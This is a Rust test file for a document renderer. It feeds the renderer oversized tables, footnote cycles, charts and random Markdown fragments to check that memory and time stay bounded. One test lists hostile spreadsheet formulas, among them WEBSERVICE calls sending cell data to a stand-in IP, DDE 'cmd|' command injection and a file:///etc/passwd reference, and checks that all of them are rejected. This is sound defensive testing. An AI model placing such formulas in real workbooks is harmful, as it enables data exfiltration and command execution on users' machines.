//! Documents that try to exhaust the memory and the time of the host: tables, footnotes, charts, formulas.
//!
//! Documents within the limits are rendered in a separate process (this test program, run for one case) whose memory is
//! measured; others must be refused before memory grows.

use std::process::Command;
use std::time::{Duration, Instant};

use mitt::ErrorKind;
use mitt::render::{
    Cancel, Chart, CommonOptions, Formula, Link, PdfBackend as _, PdfOptions, Sheet, SheetBlock,
    SheetCell, SheetColumn, SheetRow, TypstBackend, Workbook, XlsxOptions, markdown,
    markdown_unless, xlsx,
};

use crate::support::{command, measured};

const MIB: u64 = 1 << 20;

/// Names the case to its process.
const CASE: &str = "MITT_TEST_RENDERING_CASE";

/// Runs a case in a separate process. Returns its last line of output, its time, and its peak memory.
fn case(name: &str) -> (String, Duration, u64) {
    let mut command = Command::new(std::env::current_exe().unwrap());
    command
        .args(["--exact", "adversarial::rendering::the_process_of_a_case", "--nocapture"])
        .env(CASE, name);
    let started = Instant::now();
    let (output, peak) = measured(command);
    let text = String::from_utf8_lossy(&output.stdout);
    let line = text.lines().find_map(|line| line.split_once("case: ")).map(|(_, line)| line);
    let line = line.unwrap_or_else(|| panic!("{name}: {text}"));
    (line.to_owned(), started.elapsed(), peak)
}

/// The entry point of the process that [`case`] starts, not a test of its own.
#[test]
#[expect(clippy::print_stdout, reason = "the answer to the test that started it")]
fn the_process_of_a_case() {
    let Ok(name) = std::env::var(CASE) else { return };
    let result = match name.split_once(' ') {
        Some(("xlsx", name)) => {
            xlsx(&workbook(name), &XlsxOptions::default()).map(|file| file.bytes.len())
        }
        Some(("markdown", name)) => markdown(&text(name)).map(|doc| doc.blocks.len()),
        Some(("pdf", name)) => pdf(&text(name)),
        Some(("contents", name)) => {
            let options = PdfOptions {
                common: CommonOptions { contents: true, ..CommonOptions::default() },
                ..PdfOptions::default()
            };
            markdown(&text(name))
                .and_then(|doc| TypstBackend.render(&doc, &options))
                .map(|pdf| pdf.pages)
        }
        Some(("search", seed)) => Ok(search(seed.parse().unwrap())),
        _ => panic!("{name}"),
    };
    match result {
        Ok(size) => println!("case: ok {size}"),
        Err(error) => println!("case: {}", error.to_string().replace('\n', " / ")),
    }
}

fn pdf(text: &str) -> mitt::Result<usize> {
    let pdf = TypstBackend.render(&markdown(text)?, &PdfOptions::default())?;
    Ok(pdf.bytes.len())
}

fn column(index: usize) -> SheetColumn {
    SheetColumn { header: format!("c{index}"), width: 10.0, ..SheetColumn::default() }
}

fn sheet(columns: usize, rows: usize, cell: &dyn Fn(usize) -> SheetCell) -> Sheet {
    let block = SheetBlock {
        columns: (0..columns).map(column).collect(),
        rows: (0..rows)
            .map(|row| SheetRow {
                cells: (0..columns).map(|column| cell(row * columns + column)).collect(),
                ..SheetRow::default()
            })
            .collect(),
        ..SheetBlock::default()
    };
    Sheet { name: "data".into(), blocks: vec![block], ..Sheet::default() }
}

fn book(sheets: Vec<Sheet>) -> Workbook {
    Workbook { sheets, ..Workbook::default() }
}

fn words(text: &str, numbers: &[usize]) -> Vec<usize> {
    let found: Vec<usize> = text.split('-').filter_map(|part| part.parse().ok()).collect();
    if found.is_empty() { numbers.to_vec() } else { found }
}

/// Returns a workbook by its name: a kind of cell, and numbers of columns, rows and more.
fn workbook(name: &str) -> Workbook {
    let (kind, rest) = name.split_once('-').unwrap();
    let n = words(rest, &[1, 1]);
    let text = |size: usize| move |index: usize| SheetCell::Text(format!("{index:0>size$}"));
    let plain = |index: usize| SheetCell::Number(index.to_string());
    match kind {
        "numbers" => book(vec![sheet(n[0], n[1], &plain)]),
        "empty" => book(vec![sheet(n[0], n[1], &|_| SheetCell::Empty)]),
        "texts" => book(vec![sheet(n[0], n[1], &text(n[2]))]),
        "ampersands" => book(vec![sheet(n[0], n[1], &|index| {
            SheetCell::Text(format!("{index}{}", "&".repeat(n[2])))
        })]),
        "links" => book(
            (0..n[2])
                .map(|number| {
                    let mut sheet = sheet(n[0], n[1], &|index| {
                        SheetCell::Link(Link {
                            url: format!("https://example.org/{number}/{index}"),
                            text: format!("{number} {index}"),
                        })
                    });
                    sheet.name = format!("s{number}");
                    sheet
                })
                .collect(),
        ),
        "formulas" => book(vec![sheet(n[0], n[1], &|index| {
            SheetCell::Formula(Formula {
                expression: format!("=SUM(A1:A{})", index + 1),
                value: index.to_string(),
            })
        })]),
        // Columns, rows, charts, series of each.
        "charts" | "textcharts" => {
            let cell: &dyn Fn(usize) -> SheetCell =
                if kind == "charts" { &plain } else { &text(1_000) };
            let mut sheet = sheet(n[0], n[1], cell);
            let chart = Chart {
                value_columns: (0..n[3]).map(|series| (series % n[0]) as u32).collect(),
                row_count: n[1] as u32,
                title: Some("chart".into()),
                ..Chart::default()
            };
            sheet.blocks[0].charts = vec![chart; n[2]];
            book(vec![sheet])
        }
        // Columns, sheets.
        "columns" => book(
            (0..n[1])
                .map(|number| {
                    let mut sheet = sheet(n[0], 1, &|_| SheetCell::Empty);
                    sheet.name = format!("s{number}");
                    sheet
                })
                .collect(),
        ),
        _ => panic!("{name}"),
    }
}

/// Returns a text by its name.
fn text(name: &str) -> String {
    let (kind, rest) = name.split_once('-').unwrap_or((name, ""));
    let n = words(rest, &[2_000_000]);
    let size = n[0];
    match kind {
        "word" => "x".repeat(size),
        "paragraph" => "word ".repeat(size / 5),
        "chinese" => "年报收入，".repeat(size / 15),
        "mixed" => "年a".repeat(size / 4),
        "code" => format!("```\n{}\n```", "let x = 1; ".repeat(size / 11)),
        "codeword" => format!("```\n{}\n```", "x".repeat(size)),
        "inlinecode" => format!("`{}`", "x y ".repeat(size / 4)),
        "emphasis" => format!("*{}*", "年a".repeat(size / 4)),
        "heading" => {
            format!("# {}\n\n## {}\n\ntext", "word ".repeat(size / 10), "word ".repeat(size / 10))
        }
        "title" => {
            format!("# {}\n\n{}", "word ".repeat(size / 10), "word word word\n\n".repeat(20_000))
        }
        "headings" => (0..9_000).map(|n| format!("## Heading {n}\n\n")).collect(),
        "signs" => "✅".repeat(size / 3),
        "dots" => "*年* a ".repeat(n[0].min(9_000)),
        "flags" => "🇩🇪".repeat(size / 8),
        "list" => "- a\n".repeat(n[0].min(29_000)),
        "nested" => "1. - 1. - 1. - a\n".repeat(n[0].min(8_000)),
        "quotes" => "> > > > > > a\n\n".repeat(n[0].min(8_000)),
        "links" => "[a](http://x) ".repeat(n[0].min(19_000)),
        "lines" => format!("```\n{}```", "x\n".repeat(n[0].min(59_000))),
        // Columns, rows.
        "table" => table(n[0], n[1], "|1"),
        "short" => table(n[0], n[1], "x"),
        "emptytable" => table(n[0], n[1], "| "),
        "cell" => format!("|a|b|\n|-|-|\n|{}|x|\n", "word ".repeat(size / 5)),
        "footnotes" => {
            (0..n[0].min(9_000)).map(|n| format!("a[^{n}]\n\n[^{n}]: note\n\n")).collect()
        }
        "again" => format!("{}\n\n[^a]: note", "a[^a] ".repeat(n[0].min(19_000))),
        "boldrows" => "**a** _b_ `c` ".repeat(n[0].min(7_000)),
        "deepspans" => "**_~~[a](http://b)~~_** ".repeat(n[0].min(8_000)),
        "images" => "![".repeat(n[0] / 6) + &"](a)".repeat(n[0] / 6),
        // Tables, columns, one-cell rows, and a prefix for each line.
        "tables" => {
            let prefix = rest.rsplit('-').next().unwrap();
            let prefix = match prefix {
                "quote" => "> ",
                "list" => "  ",
                _ => "",
            };
            let one = format!("{}\n\n", table(n[1], n[2], "x").trim_end());
            one.repeat(n[0]).lines().map(|line| format!("{prefix}{line}\n")).collect()
        }
        // Bytes of the note, and references to it in another note.
        "nestednote" => format!(
            "x[^b]\n\n[^b]: {}\n\n[^a]: {}\n",
            "[^a] ".repeat(n[1]),
            "word ".repeat(n[0] / 5)
        ),
        _ => panic!("{name}"),
    }
}

fn table(columns: usize, rows: usize, cell: &str) -> String {
    let row = if cell == "x" { "x".to_owned() } else { cell.repeat(columns) + "|" };
    format!(
        "{}|\n{}|\n{}",
        "|a".repeat(columns),
        "|-".repeat(columns),
        format!("{row}\n").repeat(rows)
    )
}

/// A random number generator whose inputs are the same in every run.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % end as u64) as usize
    }
}

/// Fragments of Markdown: marks of blocks and of text, half of them incomplete.
const FRAGMENTS: [&str; 74] = [
    "a",
    "\n",
    "\n\n",
    " ",
    "    ",
    "\t",
    ">",
    "> ",
    "- ",
    "* ",
    "1. ",
    "1) ",
    "+ ",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "](a)",
    "[a]",
    "[a]: b",
    "[a]: ",
    "[^a]",
    "[^a]: ",
    "[^b]",
    "[^b]: ",
    "\"",
    "'",
    "`",
    "``",
    "```\n",
    "~~~\n",
    "*",
    "**",
    "_",
    "__",
    "~",
    "~~",
    "<",
    "</",
    "<a",
    "<a b=",
    "<!--",
    "-->",
    "<?",
    "<script>",
    "<div>\n",
    "&",
    "&amp;",
    "\\",
    "|",
    "|a|b|\n|-|-|\n",
    "|-",
    "---",
    "===",
    "# ",
    "###### ",
    "http://",
    "<http:",
    "年",
    "✅",
    "🇩🇪",
    "- [ ] ",
    "x\n",
    "\\\n",
    "\r\n",
    "[!NOTE]\n",
    "[a]: b\n\"",
    "[a\n",
    "<a b=\"\n",
    "`a\n",
    "\u{2028}",
    "\u{E0F0}*",
];

/// Returns a few parts, each of one to four fragments that repeat many times.
fn hostile(numbers: &mut Numbers, size: usize) -> String {
    let parts = 1 + numbers.below(3);
    let mut text = String::new();
    for _ in 0..parts {
        let fragments = 1 + numbers.below(4);
        let unit: String =
            (0..fragments).map(|_| FRAGMENTS[numbers.below(FRAGMENTS.len())]).collect();
        text += &unit.repeat((size / parts / unit.len()).max(1));
        if numbers.below(3) == 0 {
            text += FRAGMENTS[numbers.below(FRAGMENTS.len())];
        }
    }
    text
}

/// Reads and draws hostile texts. Each must be refused or drawn in time; panics and faults of ours fail the case.
fn search(seed: u64) -> usize {
    let count: usize = std::env::var("MITT_TEST_SEARCH").map_or(40, |count| count.parse().unwrap());
    let mut numbers = Numbers(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1);
    for round in 0..count {
        // Most are only read, at a size at which quadratic time shows; some are drawn.
        let is_drawn = round % 3 == 0;
        let text = hostile(&mut numbers, if is_drawn { 6_000 } else { 300_000 });
        let started = Instant::now();
        let result =
            if is_drawn { pdf(&text) } else { markdown(&text).map(|doc| doc.blocks.len()) };
        let shown: String = text.chars().take(60).collect();
        if let Err(error) = result {
            assert_eq!(*error.kind(), ErrorKind::Arguments, "{shown:?}: {error}");
        }
        let took = started.elapsed();
        assert!(took < Duration::from_secs(60), "{took:?}: {shown:?}");
    }
    count
}

#[test]
fn a_search_for_the_worst_text_finds_none() {
    for seed in [1, 2] {
        let (line, _, peak) = case(&format!("search {seed}"));
        assert_eq!(line, "ok 40");
        assert!(peak < 400 * MIB, "{} MiB", peak / MIB);
    }
}

#[test]
fn rows_that_leave_cells_out_are_counted_before_the_tree_grows() {
    for name in [
        "tables-1-512-512-plain",
        "tables-40-500-520-plain",
        "tables-100-500-500-quote",
        "tables-700-512-64-list",
        "tables-2000-100-70-plain",
    ] {
        let (line, took, peak) = case(&format!("markdown {name}"));
        assert!(
            line.contains("at most 131072 cells that rows of tables leave out"),
            "{name}: {line}"
        );
        assert!(peak < 128 * MIB, "{name}: {} MiB", peak / MIB);
        assert!(took < Duration::from_secs(30), "{name}: {took:?}");
    }
    // Written output is counted while the document is built.
    let (line, _, peak) = case("markdown table-20-20000");
    assert!(line.contains("at most 60000 elements"), "{line}");
    assert!(peak < 200 * MIB, "{} MiB", peak / MIB);
    // Real tables are accepted.
    for name in ["table-20-1400", "short-20-2000"] {
        assert!(markdown(&text(name)).is_ok(), "{name}");
    }
}

#[test]
fn a_document_of_tables_without_cells_is_read_as_text() {
    let folder = tempfile::tempdir().unwrap();
    let heading = format!("# {}\n\n", "x".repeat(100_000));
    for (name, text, warns) in [
        ("small.md", text("tables-40-500-520-plain"), true),
        ("large.md", text("tables-1200-500-520-quote"), true),
        // A name for each of many tables.
        ("names.md", heading + &"|a|\n|-|\n\n".repeat(20_000), false),
        ("real.md", table(20, 5_000, "| 1"), false),
        ("short.md", table(20, 5_000, "x"), false),
    ] {
        std::fs::write(folder.path().join(name), &text).unwrap();
        let (output, peak) = measured(command(folder.path(), &["ingest", name]));
        let told = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{name}: {told}");
        assert_eq!(told.contains("structure of the text were not read"), warns, "{name}: {told}");
        assert!(peak < 200 * MIB, "{name}: {} MiB", peak / MIB);
    }
}

#[test]
fn a_note_is_not_repeated_at_every_reference() {
    for name in ["nestednote-40000-4000", "nestednote-150000-5000"] {
        let (line, took, peak) = case(&format!("pdf {name}"));
        assert!(line.starts_with("ok "), "{name}: {line}");
        assert!(peak < 400 * MIB, "{name}: {} MiB", peak / MIB);
        assert!(took < Duration::from_secs(120), "{name}: {took:?}");
    }
    // Notes in a cycle, and one that refers to itself.
    pdf("a[^a]\n\n[^a]: one [^b]\n[^b]: two [^c] [^b]\n[^c]: three [^a] [^b] [^c]\n").unwrap();
}

#[test]
fn what_short_text_makes_large_is_refused_or_small() {
    for name in [
        "pdf again-19000",
        "pdf footnotes-9000",
        "pdf signs",
        "pdf mixed-1400000",
        "contents headings",
    ] {
        let (line, _, peak) = case(name);
        assert!(line.starts_with("document: expected at most "), "{name}: {line}");
        assert!(peak < 256 * MIB, "{name}: {} MiB", peak / MIB);
    }
    for name in
        ["emphasis-150000", "dots-9000", "title-300000", "images-300000", "codeword-1000000"]
    {
        let (line, took, peak) = case(&format!("pdf {name}"));
        assert!(line.starts_with("ok "), "{name}: {line}");
        assert!(peak < 512 * MIB, "{name}: {} MiB", peak / MIB);
        assert!(took < Duration::from_secs(120), "{name}: {took:?}");
    }
}

#[test]
fn charts_columns_and_links_are_bounded_together() {
    for (name, what) in [
        ("charts-2-1-1-300000", "at most 255 columns of values"),
        ("charts-2-1-2000-1", "at most 1024 charts"),
        ("charts-2-1-1000-200", "at most 4096 series"),
        ("charts-2-100000-1-4", "at most 500000 values in all charts"),
        ("textcharts-2-500-4-50", "at most 16777216 bytes of text in all charts"),
        ("columns-2000-100", "at most 65536 columns"),
        ("links-1-70000-1", "at most 65530 links"),
    ] {
        let (line, _, peak) = case(&format!("xlsx {name}"));
        assert!(line.contains(what), "{name}: {line}");
        // The description alone takes most of this.
        assert!(peak < 400 * MIB, "{name}: {} MiB", peak / MIB);
    }
}

#[test]
fn the_largest_workbooks_take_at_most_512_mib() {
    for name in [
        "numbers-1-700000",
        "texts-20-50000-4",
        "texts-100-100-20000",
        "ampersands-10-1000-20000",
        "charts-16-60-256-16",
        "textcharts-2-60-2-60",
    ] {
        let (line, _, peak) = case(&format!("xlsx {name}"));
        assert!(line.starts_with("ok "), "{name}: {line}");
        assert!(peak < 560 * MIB, "{name}: {} MiB", peak / MIB);
    }
}

#[test]
fn problems_of_a_workbook_do_not_repeat_its_texts() {
    // A million invalid cells below a header of a megabyte, which each problem would repeat.
    let mut wrong = sheet(1, 300_000, &|_| SheetCell::Number("x".into()));
    wrong.blocks[0].columns[0].header = "h".repeat(MIB as usize);
    wrong.name = "n".repeat(MIB as usize);
    let started = Instant::now();
    let message = xlsx(&book(vec![wrong]), &XlsxOptions::default()).unwrap_err().to_string();
    assert!(message.len() < 20_000, "{}", message.len());
    assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
}

#[test]
fn formulas_reach_nothing_outside_of_their_workbook() {
    let result = |expression: &str| {
        let formula = Formula { expression: expression.into(), value: "1".into() };
        xlsx(
            &book(vec![sheet(1, 1, &|_| SheetCell::Formula(formula.clone()))]),
            &XlsxOptions::default(),
        )
    };
    for formula in [
        "=WEBSERVICE(\"http://192.0.2.1/?\"&A1)",
        "=_xlfn.WEBSERVICE(A1)",
        "= WebService (A1)",
        "=IF(1,@WEBSERVICE(A1))",
        "=cmd|'/c calc'!A0",
        "=+cmd|' /C notepad'!'A1'",
        "='[other.xlsx]data'!A1",
        "=[1]data!A1",
        "='file:///etc/[passwd]data'!A1",
        "=HYPERLINK(\"http://192.0.2.1\",\"x\")",
        "=RTD(\"a\",,\"b\")",
        "=INDIRECT(\"[a.xlsx]data!A1\")",
        "=\"_x0022_&WEBSERVICE(_x0022_http://192.0.2.1_x0022_)&_x0022_\"",
    ] {
        let error = result(formula).unwrap_err();
        assert_eq!(*error.kind(), ErrorKind::Arguments, "{formula}");
        assert!(
            error.to_string().starts_with("sheet `data`, row 2, column `c0`: "),
            "{formula}: {error}"
        );
    }
    for formula in
        ["=SUM(A1:A1)", "=data!A1*2", "='data'!$A$1&\"=cmd|'/c calc'!A0\"", "=ROUND(1.5,0)"]
    {
        assert!(result(formula).is_ok(), "{formula}");
    }
}

#[test]
fn a_cancelled_rendering_looks_at_its_flag() {
    let cancelled = Cancel::new();
    cancelled.cancel();
    let error = markdown_unless("text", &cancelled).unwrap_err();
    assert_eq!(*error.kind(), ErrorKind::Host);
    // Cancelled in the middle, so that the rest of the work is not done.
    let doc = markdown(&text("table-20-1400")).unwrap();
    let large = book(vec![sheet(20, 20_000, &|index| SheetCell::Text(index.to_string()))]);
    let cancel = Cancel::new();
    let options = PdfOptions {
        common: CommonOptions { cancel: cancel.clone(), ..CommonOptions::default() },
        ..PdfOptions::default()
    };
    let xlsx_options = XlsxOptions { cancel: cancel.clone(), ..XlsxOptions::default() };
    std::thread::scope(|scope| {
        let drawn = scope.spawn(|| TypstBackend.render(&doc, &options));
        let written = scope.spawn(|| xlsx(&large, &xlsx_options));
        std::thread::sleep(Duration::from_millis(20));
        cancel.cancel();
        let started = Instant::now();
        assert!(drawn.join().unwrap().is_err());
        let _either = written.join().unwrap();
        assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
    });
}
